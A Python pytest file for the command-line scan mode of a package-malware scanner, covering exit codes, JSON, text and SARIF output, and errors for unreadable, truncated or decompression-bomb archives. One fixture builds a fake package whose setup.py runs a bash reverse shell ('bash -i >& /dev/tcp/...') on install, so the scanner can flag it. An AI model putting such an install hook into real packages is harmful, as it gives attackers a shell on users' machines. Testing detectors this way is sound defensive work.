"""The `scan` role as a user runs it: `docker/entrypoint.sh scan ...`, without a database or
Redis in the environment; reports on stdout, reasons on stderr, exit 0/3/1/2."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from . import archives
from .test_sarif import REV, VALIDATOR

ROOT = Path(__file__).resolve().parents[3]
ENTRYPOINT = str(ROOT / "docker" / "entrypoint.sh")


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    archives.sdist(tmp_path / "demo_pkg-1.2.3.tar.gz")
    archives.tar_gz(
        tmp_path / "bad-1.0.tar.gz",
        {
            "bad-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: bad\nVersion: 1.0\n",
            "bad-1.0/setup.py": (
                "from setuptools import setup\nimport os\nos.system('" + REV + "')\n"
            ).encode(),
        },
    )
    (tmp_path / "notes.txt").write_text("not an archive\n")
    return tmp_path


def scan(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    drop = ("DATABASE_URL", "REDIS_URL", "DJANGO_SETTINGS_MODULE", "POSTGRES_HOST")
    env = {k: v for k, v in os.environ.items() if k not in drop}
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}"
    env["ANALYSIS_SCRATCH_DIR"] = str(cwd / "scratch")
    env["XDG_CACHE_HOME"] = str(cwd / "cache")
    return subprocess.run(
        [ENTRYPOINT, "scan", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def test_clean_file_exits_0_with_one_json_line(workdir: Path) -> None:
    proc = scan(workdir, "demo_pkg-1.2.3.tar.gz")
    assert (proc.returncode, proc.stderr) == (0, "")
    (line,) = proc.stdout.splitlines()
    report = json.loads(line)
    assert report["verdict"] == "clean"
    assert report["package"]["purl"] == "pkg:pypi/demo-pkg@1.2.3"
    assert report["artifacts"][0]["filename"] == "demo_pkg-1.2.3.tar.gz"
    assert list((workdir / "scratch").iterdir()) == []


def test_malicious_file_exits_3(workdir: Path) -> None:
    proc = scan(workdir, "bad-1.0.tar.gz", "demo_pkg-1.2.3.tar.gz", "--fail-on", "malicious")
    assert proc.returncode == 3, proc.stderr
    verdicts = [json.loads(line)["verdict"] for line in proc.stdout.splitlines()]
    assert verdicts == ["malicious", "clean"]
    bad = json.loads(proc.stdout.splitlines()[0])
    assert any(
        f["file"] == "bad-1.0/setup.py" and f["line"] == 3 and f["reachability"] == "install"
        for f in bad["findings"]
    )


def test_purl_and_file_in_text_exit_0(workdir: Path) -> None:
    proc = scan(workdir, "pkg:npm/is-number@7.0.0", "demo_pkg-1.2.3.tar.gz", "--format", "text")
    assert proc.returncode == 0, proc.stderr
    reports, _, table = proc.stdout.partition("VERDICT ")
    heads = [
        line.split("  ")[0:2] for line in reports.splitlines() if line and not line.startswith(" ")
    ]
    assert heads == [["pkg:npm/is-number@7.0.0", "clean"], ["pkg:pypi/demo-pkg@1.2.3", "clean"]]
    *rows, total = [line.split() for line in table.splitlines()[1:]]  # below the header
    assert [(r[0], r[3], r[4], r[5]) for r in rows] == [
        ("clean", "0", "no", "pkg:npm/is-number@7.0.0"),  # verdict, suppressed, cached, purl
        ("clean", "0", "no", "pkg:pypi/demo-pkg@1.2.3"),
    ]
    assert total == ["2", "package(s):", "2", "clean"]


def test_text_shows_the_evidence_and_colours_only_when_asked(workdir: Path) -> None:
    proc = scan(workdir, "bad-1.0.tar.gz", "--format", "text")
    assert proc.returncode == 3, proc.stderr
    out = proc.stdout
    assert "\x1b[" not in out  # not a terminal: no colour codes
    assert out.startswith("pkg:pypi/bad@1.0  malicious  score ")
    assert "  artifact sdist bad-1.0.tar.gz  sha256 " in out
    assert "    bad-1.0/setup.py:3  (install, in sdist bad-1.0.tar.gz)" in out
    assert "    │ os.system('bash -i >& /dev/tcp/" in out  # the code itself
    assert "    why: " in out
    coloured = scan(workdir, "bad-1.0.tar.gz", "--format", "text", "--color", "always").stdout
    assert "\x1b[1;31mmalicious\x1b[0m" in coloured
    assert coloured.replace("\x1b[", "").count("os.system") == out.count("os.system")


def test_targets_that_cannot_be_analysed_exit_1_with_reasons(workdir: Path) -> None:
    proc = scan(
        workdir,
        "pkg:pypi/packamal-no-such-package-4f1c9e",
        "notes.txt",
        "missing.tgz",
        "demo_pkg-1.2.3.tar.gz",
    )
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        "scan: pkg:pypi/packamal-no-such-package-4f1c9e: No such package:"
        " pkg:pypi/packamal-no-such-package-4f1c9e",
        "scan: notes.txt: Not an archive: the file is neither a tar (plain, gzip, bzip2 or xz)"
        " nor a zip",
        "scan: missing.tgz: Not a package URL (pkg:...) and no such file: missing.tgz",
    ]
    lines = [json.loads(line) for line in proc.stdout.splitlines()]
    assert [line["verdict"] for line in lines] == [None, None, None, "clean"]  # in target order
    assert [line.get("status") for line in lines[:3]] == ["unanalysed"] * 3
    assert lines[2]["error"] == "Not a package URL (pkg:...) and no such file: missing.tgz"
    # A target that reached --fail-on outranks one that could not be analysed.
    assert scan(workdir, "notes.txt", "bad-1.0.tar.gz").returncode == 3


def test_an_unreadable_file_exits_1_with_a_reason_not_a_traceback(workdir: Path) -> None:
    # /proc/self/mem is a regular file whose first page cannot be read (EIO), even as root.
    proc = scan(workdir, "/proc/self/mem")
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.startswith("scan: /proc/self/mem: Cannot read mem: ")
    assert "Traceback" not in proc.stderr


def test_sarif_format_is_one_valid_log_with_one_run(workdir: Path) -> None:
    proc = scan(workdir, "bad-1.0.tar.gz", "demo_pkg-1.2.3.tar.gz", "--format", "sarif")
    assert proc.returncode == 3, proc.stderr
    log = json.loads(proc.stdout)
    VALIDATOR.validate(log)
    (run,) = log["runs"]  # code scanning refuses several runs of one tool and category
    packages = run["properties"]["packages"]
    assert [(p["purl"], p["verdict"]) for p in packages] == [
        ("pkg:pypi/bad@1.0", "malicious"),
        ("pkg:pypi/demo-pkg@1.2.3", "clean"),
    ]
    by_package = {r["properties"]["package"] for r in run["results"]}
    assert "pkg:pypi/bad@1.0" in by_package <= {p["purl"] for p in packages}


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        ((), "the following arguments are required: PURL_OR_FILE"),
        (("x.tgz", "--format", "xml"), "invalid choice: 'xml'"),
        (("x.tgz", "--fail-on", "clean"), "invalid choice: 'clean'"),
        (("x.tgz", "--ecosystem", "maven"), "invalid choice: 'maven'"),
    ],
)
def test_bad_usage_exits_2(workdir: Path, args: tuple[str, ...], needle: str) -> None:
    proc = scan(workdir, *args)
    assert proc.returncode == 2
    assert needle in proc.stderr and proc.stdout == ""


def test_archives_that_cannot_be_opened_whole_exit_1_never_clean(
    workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = (workdir / "demo_pkg-1.2.3.tar.gz").read_bytes()
    (workdir / "cut-1.0.tar.gz").write_bytes(whole[:-4])  # pip's reader still takes it
    bomb = workdir / "bomb-1.0.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bomb/zeros.bin", b"\0" * (64 * 1024 * 1024))
    proc = scan(workdir, "cut-1.0.tar.gz", "bomb-1.0.zip", "--format", "text")
    assert proc.returncode == 1, proc.stderr
    errors = [line for line in proc.stderr.splitlines() if line.startswith("scan: ")]
    assert errors == [
        "scan: cut-1.0.tar.gz: Archive is truncated or corrupt (gzip): Compressed file ended"
        " before the end-of-stream marker was reached",
        "scan: bomb-1.0.zip: Unpacking stopped: compression ratio above 200:1 (64 MiB from"
        f" {bomb.stat().st_size} bytes; a decompression bomb?)",
    ]
    assert "clean" not in proc.stdout.replace("could not be analysed", "")
    assert proc.stdout.splitlines()[-1] == "2 package(s): 2 could not be analysed"

    monkeypatch.setenv("ANALYSIS_MAX_ARTIFACT_BYTES", "100")
    big = scan(workdir, "demo_pkg-1.2.3.tar.gz")
    assert big.returncode == 1
    assert json.loads(big.stdout)["status"] == "unanalysed"  # its own line, no verdict
    assert big.stderr.startswith("scan: demo_pkg-1.2.3.tar.gz: Artifact too large: ")
    assert "ANALYSIS_MAX_ARTIFACT_BYTES" in big.stderr
